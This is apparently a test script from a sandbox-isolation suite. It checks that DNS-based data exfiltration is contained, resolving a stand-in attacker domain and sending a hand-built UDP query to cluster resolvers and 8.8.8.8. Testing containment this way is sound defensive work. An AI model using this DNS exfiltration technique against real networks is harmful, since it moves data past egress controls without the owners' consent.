"""Ask for names.

Tries: to smuggle data out as questions to a name server, by the resolver and by hand.
Expect: contained
"""

import socket


def ask(server):
    question = b"\x01\x01\x01\0\0\1\0\0\0\0\0\0\4data\7example\3org\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
        return own.sendto(question, (server, 53))


for name in ("example.org", "kubernetes.default.svc", "data.attacker.example", "localhost"):
    attempt(f"ask for {name}", socket.gethostbyname, name)
for server in ("10.96.0.10", "169.254.20.10", "8.8.8.8"):
    attempt(f"ask {server}", ask, server)
